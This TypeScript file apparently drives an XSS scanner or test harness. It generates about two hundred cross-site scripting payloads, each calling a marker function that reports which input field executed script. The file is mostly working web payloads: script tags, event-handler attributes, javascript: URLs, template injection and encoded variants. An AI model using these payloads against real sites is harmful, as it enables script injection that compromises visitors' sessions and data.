const marks = ['script', 'img', 'svg', 'iframe', 'a', 'style', 'math', 'details', 'video', 'object'];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];

/**
 * Two hundred ways to get a script into a page, each calling `window.__xss` with the same argument: the number of the field
 * that the payload was typed into.
 */
export function listPayloads(field: number | '' = ''): string[] {
  const call = `window.__xss(${field})`;
  const plain = [
    `<script>${call}</script>`,
    `"><script>${call}</script>`,
    `'><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `</title><script>${call}</script>`,
    `<!--><script>${call}</script>-->`,
    `<![CDATA[<script>${call}</script>]]>`,
    `<a href="javascript:${call}">x</a>`,
    `javascript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>parent.__xss(${field})</script>">`,
    `<form><button formaction=javascript:${call}>x`,
    `<base href="javascript:${call}">`,
    `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  ];
  const combined = marks.flatMap((mark) =>
    handlers.map((handler) => `<${mark} src=x ${handler}=${call} autofocus open>`),
  );
  const broken = marks.flatMap((mark) => handlers.map((handler) => `"'/><${mark}/${handler}="${call}"//`));
  const upper = marks.map((mark) => `<${mark.toUpperCase()}\tSRC=x\nonError=${call}>`);
  const coded = marks.map((mark) => `&#60;${mark} onload=${call}&#62;`);
  return [...plain, ...combined, ...broken, ...upper, ...coded];
}

/** Twelve that fit where a name or a number of a letter goes. */
export function listShortPayloads(field: number): string[] {
  const call = `__xss(${field})`;
  return [
    `<svg onload=${call}>`,
    `<svg/onload=${call}>`,
    `"><svg onload=${call}>`,
    `'><svg onload=${call}>`,
    `<img src=x onerror=${call}>`,
    `<script>${call}</script>`,
    `<a href=javascript:${call}>x`,
    `<b onclick=${call}>x`,
    `<style onload=${call}>`,
    `<body onload=${call}>`,
    `javascript:${call}`,
    `<video onerror=${call} src>`,
  ];
}
